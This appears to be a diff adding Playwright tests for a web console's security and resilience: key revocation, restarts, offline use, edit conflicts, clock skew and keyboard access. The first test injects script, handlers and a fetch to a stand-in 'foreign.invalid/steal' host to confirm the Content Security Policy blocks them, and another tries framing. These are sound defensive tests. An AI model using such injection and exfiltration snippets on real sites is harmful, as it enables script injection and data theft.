@@ -1,0 +1,161 @@
+"""What goes wrong around an open page is said politely, and mends itself."""
+
+from playwright.sync_api import expect
+
+import test_looks
+from stage import settled, until, visit
+
+BANNER = "The service does not answer"
+
+
+def test_the_policy_blocks_what_was_injected(stage):
+    stage.expects("Content Security Policy", "violates the following", "Refused to", "foreign.invalid")
+    network, _ = test_looks.filled(stage)
+    page = stage.open("acme/keys", session=network)
+    page.evaluate("""() => {
+        const add = (tag, set) => document.body.append(Object.assign(document.createElement(tag), set));
+        window.broken = [];
+        window.violations = [];
+        document.addEventListener("securitypolicyviolation", (event) => violations.push(event.effectiveDirective));
+        add("script", { textContent: "window.broken.push('inline script')" });
+        add("script", { src: "https://foreign.invalid/script.js" });
+        add("img", { src: "https://foreign.invalid/beacon.png" });
+        add("link", { rel: "stylesheet", href: "https://foreign.invalid/style.css" });
+        document.body.insertAdjacentHTML("beforeend",
+            "<b id=inline onclick=\\"window.broken.push('handler')\\" style='display:none'>b</b><a id=go href=\\"javascript:window.broken.push('url')\\">a</a>");
+        document.getElementById("inline").click();
+        document.getElementById("go").click();
+        fetch("https://foreign.invalid/steal").catch(() => violations.push("fetch"));
+    }""")
+    page.wait_for_function("violations.includes('fetch') && violations.length >= 8")
+    found = set(page.evaluate("violations"))
+    assert {"script-src-elem", "script-src-attr", "style-src-attr", "style-src-elem", "img-src", "connect-src"} <= found, found
+    assert page.evaluate("broken") == []
+    assert page.evaluate("getComputedStyle(document.getElementById('inline')).display") != "none"
+
+
+def test_the_console_cannot_be_framed(stage):
+    stage.expects("frame-ancestors", "Refused to frame", "ERR_BLOCKED_BY_RESPONSE", "404")
+    page = stage.context().new_page()
+    page.route("**/frame", lambda route: route.fulfill(content_type="text/html", body=f"<iframe src='{stage.origin}/console'></iframe>"))
+    page.goto(f"{stage.origin}/frame")
+    frame = next(each for each in page.frames if each.parent_frame)
+    assert frame.query_selector("#app") is None
+
+
+def test_a_key_that_is_revoked_while_a_page_is_open_ends_the_session(stage):
+    stage.expects("401")
+    network = stage.network()
+    second = network.post("api-keys", body={"role": "admin", "label": "Other"})
+    page = stage.open(f"{network.id}/keys", session=network)
+    own = next(key["id"] for key in network.get("api-keys")["items"] if key["id"] != second["id"])
+    stage.service.call("DELETE", network.path("api-keys", own))
+    page.get_by_role("link", name="Switches").click()
+    expect(page.get_by_text("You were signed out.")).to_be_visible()
+    page.get_by_label("Key").fill(second["apiKey"])
+    page.get_by_role("button", name="Sign in").click()
+    expect(page.locator("main h1")).to_have_text("Switches")
+
+
+def test_a_page_outlives_a_restart_of_the_service(stage):
+    stage.expects("ERR_", "503", "Failed to fetch dynamically imported module")
+    network, _ = test_looks.filled(stage)
+    page = stage.open("acme/events", session=network)
+    stage.service.stop()
+    try:
+        expect(page.get_by_text(BANNER).first).to_be_visible()
+        expect(page.locator("main h1")).to_have_text("Events")
+    finally:
+        stage.service.start()
+        stage.service.wait()
+    event = network.say("After the restart")
+    expect(page.locator(f"a[href*='{event}']").first).to_be_visible(timeout=30_000)
+    expect(page.locator(".banner")).to_have_text("")
+
+
+def test_who_is_offline_is_told_and_comes_back(stage):
+    stage.expects("ERR_INTERNET_DISCONNECTED")
+    network = stage.network()
+    page = stage.open(f"{network.id}/keys", session=network)
+    visit(page, f"/console/{network.id}/switches")
+    page.context.set_offline(True)
+    page.get_by_role("switch", name="All notifications").click()
+    expect(page.get_by_text(BANNER).first).to_be_visible()
+    expect(page.get_by_role("switch", name="All notifications")).to_have_attribute("aria-checked", "true")
+    page.context.set_offline(False)
+    page.get_by_role("switch", name="All notifications").click()
+    until(lambda: network.get("notifications")["enabled"] is False, "the switch is off")
+    expect(page.locator(".banner")).to_have_text("")
+
+
+def test_two_admins_at_one_switch_hear_of_each_other(stage):
+    stage.expects("412")
+    network = stage.network()
+    one, other = (stage.open(f"{network.id}/switches", session=network) for _ in range(2))
+    one.get_by_role("switch", name="Message sent").click()
+    until(lambda: network.get("notifications")["events"]["message.sent"]["enabled"] is False, "the first one is saved")
+    other.get_by_role("switch", name="All notifications").click()
+    dialog = other.get_by_role("dialog")
+    expect(dialog).to_contain_text("Somebody else changed this")
+    assert network.get("notifications")["enabled"] is True
+    dialog.get_by_role("button", name="Switch it off all the same").click()
+    until(lambda: network.get("notifications")["enabled"] is False, "the second one is saved")
+    assert network.get("notifications")["events"]["message.sent"]["enabled"] is False
+
+
+def test_a_clock_that_is_wrong_is_said_and_does_not_move_times(stage):
+    network, _ = test_looks.filled(stage)
+    context = stage.context(network)
+    page = context.new_page()
+    page.clock.install(time="2031-01-01T00:00:00Z")
+    page.goto(f"{stage.origin}/console/acme/keys")
+    expect(page.get_by_text("This computer’s clock is").first).to_be_visible()
+    settled(page)
+    assert "d ago" not in page.locator("tbody").first.inner_text()
+
+
+def test_everything_can_be_done_by_keyboard(stage):
+    network = stage.network()
+    page = stage.open()
+    page.keyboard.type(network.key)
+    page.keyboard.press("Enter")
+    expect(page.locator("main h1")).to_have_text("Overview")
+
+    def tab_to(role, name):
+        target = page.get_by_role(role, name=name, exact=True)
+        expect(target).to_be_visible()
+        for _ in range(60):
+            page.keyboard.press("Tab")
+            if target.evaluate("element => element === document.activeElement"):
+                ring = target.evaluate("element => getComputedStyle(element).outlineStyle")
+                assert ring != "none", f"{name} has the focus and does not show it"
+                return
+        raise AssertionError(f"{name} is not reached by keyboard")
+
+    page.locator("body").evaluate("() => document.activeElement.blur()")
+    tab_to("link", "Skip to the page")
+    tab_to("link", "Switches")
+    page.keyboard.press("Enter")
+    expect(page.locator("main h1")).to_have_text("Switches")
+    assert page.evaluate("document.activeElement.tagName") == "H1", "the focus is where the page begins"
+    tab_to("switch", "All notifications")
+    page.keyboard.press("Space")
+    until(lambda: network.get("notifications")["enabled"] is False, "the switch is off")
+    page.get_by_role("button", name="Undo").focus()
+    page.keyboard.press("Enter")
+    until(lambda: network.get("notifications")["enabled"] is True, "the switch is on again")
+
+    page.evaluate("document.querySelector('nav a').focus()")
+    tab_to("link", "Keys")
+    page.keyboard.press("Enter")
+    expect(page.locator("main h1")).to_have_text("Keys")
+    tab_to("button", "New API key")
+    page.keyboard.press("Enter")
+    expect(page.get_by_role("dialog")).to_be_visible()
+    page.keyboard.press("Tab")
+    page.keyboard.type("By keyboard")
+    page.keyboard.press("Enter")
+    expect(page.locator(".secret-value")).to_be_visible()
+    page.keyboard.press("Tab")
+    page.keyboard.press("Enter")
+    expect(page.locator("tr", has_text="By keyboard")).to_be_visible()
